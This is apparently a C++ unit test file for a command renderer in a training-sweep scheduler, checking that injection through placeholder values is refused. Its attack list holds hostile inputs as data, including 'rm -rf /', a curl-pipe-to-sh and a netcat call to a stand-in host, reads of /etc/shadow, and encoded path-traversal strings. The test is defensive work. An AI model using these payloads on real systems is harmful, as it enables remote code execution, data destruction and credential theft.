// Injection through placeholder values (workers/command_render.h): for EVERY
// placeholder the renderer knows (KnownPlaceholders(), the renderer's own
// list), every attack below is refused, with an error naming the
// placeholder, wherever the template uses it: in argv (no shell), in a
// `shell:` script, in an env value and in the checkpoint path.
//
// Attacks that passed before the fixes in this file's commit:
//   - a negative number ({seed} = -1 renders "-1", an option to many tools);
//   - percent-encoded non-ASCII: overlong UTF-8 (%c0%ae%c0%ae%c0%af, "../"
//     to a lax decoder) and look-alikes of '.' and '/' (U+FF0E, U+2024,
//     U+2215, U+FF0F) that Unicode normalisation turns into "../";
//   - %u escapes (%u002e%u002e%u2215, "../" to IIS-style decoders);
//   - an identifier starting with '/' or '.' ({task} = "/etc/shadow").
#include <unistd.h>

#include <filesystem>
#include <limits>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "scheduler/spec/spec_parser.h"
#include "workers/command_render.h"

namespace mixsweep::workers {
namespace {

using ::testing::HasSubstr;
using ::testing::MatchesRegex;
using ::testing::StartsWith;

constexpr char kRoot[] = "/art";

// A job whose every value is valid, so that only the attacked one is not.
JobValues ValidValues() {
  return {.dataset = "file:///data/pdb/teleop",
          .dataset_hash = "sha256:9b2f0c7e",
          .subset_manifest = "/art/sweep-7/job-42/attempt-1/subset_manifest.json",
          .n_demos = 50,
          .steps = 13000,
          .seed = 1,
          .output_dir = "/art/sweep-7/job-42/attempt-1",
          .gpu = "0",
          .job_id = 42,
          .run_id = 101,
          .sweep_id = 7,
          .code_version = "git:4f1c2e9",
          .policy = "diffusion_policy",
          .task = "pick_dual_bottles",
          .init_checkpoint = "/art/sweep-7/job-40/attempt-1/latest.ckpt",
          .resume_checkpoint = "/art/sweep-7/job-42/attempt-1/step-2000.ckpt",
          .checkpoint = "/art/sweep-7/job-40/attempt-1/checkpoints/2000.ckpt",
          .n_episodes = 50,
          .step = 2000};
}

RenderOptions Roots() { return {.allowed_roots = {kRoot}}; }

bool IsString(const PlaceholderInfo& p) { return p.kind != PlaceholderKind::kNumber; }

std::string& StringField(JobValues& values, const PlaceholderInfo& p) {
  return values.*std::get<std::string JobValues::*>(p.field);
}
int64_t& NumberField(JobValues& values, const PlaceholderInfo& p) {
  return values.*std::get<int64_t JobValues::*>(p.field);
}

// Where a template can use a placeholder.
enum class Position { kArgv, kShell, kEnv, kCheckpoint };
constexpr Position kPositions[] = {Position::kArgv, Position::kShell, Position::kEnv,
                                   Position::kCheckpoint};
const char* NameOf(Position p) {
  switch (p) {
    case Position::kArgv: return "argv";
    case Position::kShell: return "shell";
    case Position::kEnv: return "env";
    case Position::kCheckpoint: return "checkpoint";
  }
  return "?";
}

absl::StatusOr<RenderedCommand> RenderAt(Position position, std::string_view name,
                                         const JobValues& values) {
  const std::string use = absl::StrCat("{", std::string(name), "}");
  // Every template names its checkpoint, so that only `name` is used.
  switch (position) {
    case Position::kArgv:
      return RenderCommand({.argv = {"tool", "--x=" + use}, .shell = "", .env = {},
                            .checkpoint = "/art/c"},
                           values, Roots());
    case Position::kShell:
      return RenderCommand({.argv = {}, .shell = "tool --x=" + use + " && echo done", .env = {},
                            .checkpoint = "/art/c"},
                           values, Roots());
    case Position::kEnv:
      return RenderCommand({.argv = {"tool"}, .shell = "", .env = {{"X", use}},
                            .checkpoint = "/art/c"},
                           values, Roots());
    case Position::kCheckpoint:
      return RenderCommand({.argv = {"tool"}, .shell = "", .env = {}, .checkpoint = use},
                           values, Roots());
  }
  return absl::InternalError("no position");
}

// ---------------------------------------------------------------------------
// The attacks. Each is appended to a valid value of the placeholder, or is
// the whole value; `accepted_for` lists the kinds for which it is a fine
// value by design (a dataset may live anywhere, outside the artifact root).

struct Attack {
  std::string name;
  std::string text;
  bool whole = false;
  std::set<PlaceholderKind> accepted_for = {};
};

const std::vector<Attack>& Attacks() {
  using K = PlaceholderKind;
  static const auto* const kAll = new std::vector<Attack>{
      // Shell metacharacters, as written.
      {"semicolon", ";rm -rf /"},
      {"and-and", "&&curl evil.example|sh"},
      {"pipe", "|nc evil.example 4444"},
      {"command substitution", "$(id)"},
      {"parameter expansion", "${HOME}"},
      {"backticks", "`id`"},
      {"redirect out", ">/etc/passwd"},
      {"redirect in", "</etc/shadow"},
      // Control characters.
      {"newline", "\nrm -rf /"},
      {"carriage return", "\rrm -rf /"},
      {"NUL", std::string("\0rm", 3)},
      {"tab", "\t--flag"},
      {"escape", "\x1b[2J"},
      {"DEL", "\x7f"},
      // '..' segments.
      {"dot-dot slash", "/../../etc/passwd"},
      {"a/../../b", "/a/../../b"},
      {"trailing /..", "/.."},
      {"dot-dot alone", "..", true},
      {"backslash dot-dot", "\\..\\..\\windows"},
      // URL-encoded, once and more.
      {"%2e%2e%2f", "/%2e%2e%2fetc"},
      {"%2E%2E%2F", "/%2E%2E%2Fetc"},
      {".%2e mixed", "/.%2e/etc"},
      {"%252e%252e%252f (double)", "/%252e%252e%252fetc"},
      {"%25252e (triple)", "/%25252e%25252e/etc"},
      {"%%32%65 (nested)", "/%%32%65%%32%65/etc"},
      {"%3b", "%3bid"},
      {"%3B", "%3Bid"},
      {"%253b (double)", "%253bid"},
      {"%0a", "%0aid"},
      {"%0d", "%0did"},
      {"%00", "%00"},
      {"%60 backtick", "%60id%60"},
      {"%24%28 $(", "%24%28id%29"},
      {"%2524%2528 $( double", "%2524%2528id%2529"},
      {"%24%7b ${", "%24%7bHOME%7d"},
      {"%26%26 &&", "%26%26id"},
      {"%7c |", "%7cid"},
      {"%3e >", "%3e/x"},
      {"%5c..%5c", "%5c..%5cx"},
      {"%2f..%2f", "%2f..%2fx"},
      // Non-ASCII: overlong UTF-8 and look-alikes of '.' and '/'.
      {"overlong UTF-8 ../ encoded", "/%c0%ae%c0%ae%c0%afetc"},
      {"overlong UTF-8 ../ raw", "/\xc0\xae\xc0\xae\xc0\xaf" "etc"},
      {"fullwidth ../ encoded (U+FF0E U+FF0F)", "/%ef%bc%8e%ef%bc%8e%ef%bc%8fetc"},
      {"fullwidth ../ raw", "/\xef\xbc\x8e\xef\xbc\x8e\xef\xbc\x8f" "etc"},
      {"one dot leader U+2024 encoded", "/%e2%80%a4%e2%80%a4/etc"},
      {"division slash U+2215 encoded", "/..%e2%88%95etc"},
      {"%u escapes", "/%u002e%u002e%u2215etc"},
      {"latin letter", "\xc3\xa9"},
      // Quoting and splitting.
      {"single quote", "'"},
      {"quote breakout", "'; id; '"},
      {"double quote", "\""},
      {"backslash", "\\"},
      {"space and flag", " --config=/evil"},
      {"glob", "*"},
      {"history", "!!"},
      {"comment", "#"},
      {"subshell", "(id)"},
      // Options and paths outside the artifact root.
      {"leading dash", "--config=/evil.yaml", true},
      {"absolute path outside the root", "/etc/shadow", true, {K::kDataset}},
      {"file URI outside the root", "file:///etc/shadow", true, {K::kDataset, K::kIdentifier}},
      {"file URI with a host", "file://evil.example/art/x", true, {K::kDataset, K::kIdentifier}},
      {"the root's name as a prefix", "/art-evil/x", true, {K::kDataset}},
      {"relative path", "sweep-7/x", true, {K::kDataset, K::kIdentifier}},
      {"longer than PATH_MAX", "/" + std::string(kMaxValueBytes, 'a')},
  };
  return *kAll;
}

// A valid value of `p` that `attack` is appended to.
std::string ValidBase(const PlaceholderInfo& p) {
  JobValues values = ValidValues();
  return StringField(values, p);
}

TEST(WorkerCommandRenderAttackTest, TheListIsTheRenderersAndTheSpecKnowsEveryName) {
  std::set<std::string_view> names;
  for (const PlaceholderInfo& p : KnownPlaceholders()) {
    EXPECT_TRUE(names.insert(p.name).second) << std::string(p.name) << " twice";
    // {step} renders only in a training template's checkpoint_at_step,
    // which the spec checks on its own; every other name is a command's.
    if (p.name == "step") continue;
    bool known = false;
    for (const char* stage : {"train", "pretrain", "finetune", "generate", "evaluate"}) {
      known |= spec::IsKnownPlaceholder(p.name, stage);
    }
    EXPECT_TRUE(known) << "{" << std::string(p.name) << "} renders but no spec stage may use it";
  }
  // The sixteen of docs/sweep-spec.md, plus seed 001's {checkpoint},
  // {n_episodes} and {step}.
  EXPECT_EQ(names.size(), 19u);
  EXPECT_TRUE(names.contains("checkpoint") && names.contains("n_episodes") &&
              names.contains("step"));
  EXPECT_FALSE(CheckPlaceholderValue("home", ValidValues(), Roots()).ok());
}

TEST(WorkerCommandRenderAttackTest, EveryAttackInEveryPlaceholderAndPositionIsRefused) {
  int refused = 0;
  int expected_refusals = 0;
  std::set<std::string> passed;  // "attack in {placeholder}", for the failure message
  for (const PlaceholderInfo& p : KnownPlaceholders()) {
    if (!IsString(p)) continue;
    for (const Attack& attack : Attacks()) {
      JobValues values = ValidValues();
      StringField(values, p) = attack.whole ? attack.text : ValidBase(p) + attack.text;
      const bool accepted = attack.accepted_for.contains(p.kind);
      for (Position position : kPositions) {
        if (!accepted) ++expected_refusals;
        absl::StatusOr<RenderedCommand> cmd = RenderAt(position, p.name, values);
        const std::string where = absl::StrCat(attack.name, " in {", std::string(p.name), "} (",
                                               NameOf(position), ", value \"",
                                               absl::CHexEscape(StringField(values, p)), "\")");
        if (accepted) {
          EXPECT_TRUE(cmd.ok()) << where << ": " << cmd.status();
          continue;
        }
        if (cmd.ok()) {
          passed.insert(absl::StrCat(attack.name, " in {", std::string(p.name), "}"));
          ADD_FAILURE() << where << " was rendered";
          continue;
        }
        ++refused;
        EXPECT_EQ(cmd.status().code(), absl::StatusCode::kInvalidArgument) << where;
        // The error names the placeholder, first.
        EXPECT_THAT(std::string(cmd.status().message()),
                    StartsWith(absl::StrCat("{", std::string(p.name), "}")))
            << where << ": " << cmd.status();
        // ... and CheckPlaceholderValue agrees with rendering.
        EXPECT_EQ(CheckPlaceholderValue(p.name, values, Roots()), cmd.status()) << where;
      }
    }
  }
  EXPECT_TRUE(passed.empty()) << "passed: " << ::testing::PrintToString(passed);
  EXPECT_EQ(refused, expected_refusals);
  EXPECT_GT(expected_refusals, 2600);  // 11 string placeholders x 66 attacks x 4 positions
}

// Numbers cannot carry an attack (they are int64), but a negative one renders
// as "-1", which a tool reads as an option when it stands alone.
TEST(WorkerCommandRenderAttackTest, NumbersRenderAsDigitsAndNeverNegative) {
  for (const PlaceholderInfo& p : KnownPlaceholders()) {
    if (IsString(p)) continue;
    for (int64_t n : {int64_t{0}, int64_t{7}, std::numeric_limits<int64_t>::max()}) {
      JobValues values = ValidValues();
      NumberField(values, p) = n;
      for (Position position : {Position::kArgv, Position::kShell}) {
        absl::StatusOr<RenderedCommand> cmd = RenderAt(position, p.name, values);
        ASSERT_TRUE(cmd.ok()) << std::string(p.name) << " = " << n << ": " << cmd.status();
        EXPECT_THAT(cmd->argv.back(), HasSubstr(absl::StrCat("--x=", position == Position::kShell
                                                                         ? "'" : "",
                                                             n)));
      }
    }
    for (int64_t n : {int64_t{-1}, std::numeric_limits<int64_t>::min()}) {
      JobValues values = ValidValues();
      NumberField(values, p) = n;
      for (Position position : kPositions) {
        absl::StatusOr<RenderedCommand> cmd = RenderAt(position, p.name, values);
        ASSERT_FALSE(cmd.ok()) << std::string(p.name) << " = " << n << " in " << NameOf(position);
        EXPECT_EQ(std::string(cmd.status().message()),
                  absl::StrCat("{", std::string(p.name), "}: value ", n,
                               " is negative and could be read as an option"));
      }
    }
  }
}

// Rendered values stay inside their argument: in argv each is exactly the
// value, and in a shell script /bin/sh sees one word (every value is
// single-quoted and none holds a quote).
TEST(WorkerCommandRenderAttackTest, AcceptedValuesAreOneWordEvenInAShell) {
  for (const PlaceholderInfo& p : KnownPlaceholders()) {
    if (!IsString(p)) continue;
    JobValues values = ValidValues();
    absl::StatusOr<RenderedCommand> cmd = RenderAt(Position::kShell, std::string(p.name), values);
    ASSERT_TRUE(cmd.ok()) << std::string(p.name) << ": " << cmd.status();
    EXPECT_THAT(cmd->argv[2], MatchesRegex("tool --x='[^' ]*' && echo done")) << std::string(p.name);
  }
}

// The renderer's confinement is textual: it never follows symbolic links.
// A path under the root that is a link out of it is the worker's to catch
// (PrepareJob resolves its output directory and checkpoints:
// tests/worker/job_paths_test.cc).
TEST(WorkerCommandRenderAttackTest, ConfinementIsTextualSymlinksAreTheWorkersToResolve) {
  const std::filesystem::path root =
      std::filesystem::temp_directory_path() / absl::StrCat("mixsweep-render-", ::getpid());
  std::filesystem::create_directories(root);
  std::filesystem::create_symlink("/etc", root / "escape");
  JobValues values = ValidValues();
  values.init_checkpoint = (root / "escape" / "shadow").string();
  absl::StatusOr<RenderedCommand> cmd =
      RenderCommand({.argv = {"tool", "{init_checkpoint}"}, .shell = "", .env = {},
                     .checkpoint = root.string() + "/c"},
                    values, {.allowed_roots = {root.string()}});
  EXPECT_TRUE(cmd.ok()) << cmd.status();  // textually under the root
  values.init_checkpoint = "/etc/shadow";
  EXPECT_FALSE(RenderCommand({.argv = {"tool", "{init_checkpoint}"}, .shell = "", .env = {},
                              .checkpoint = root.string() + "/c"},
                             values, {.allowed_roots = {root.string()}})
                   .ok());
  std::filesystem::remove_all(root);
}

}  // namespace
}  // namespace mixsweep::workers
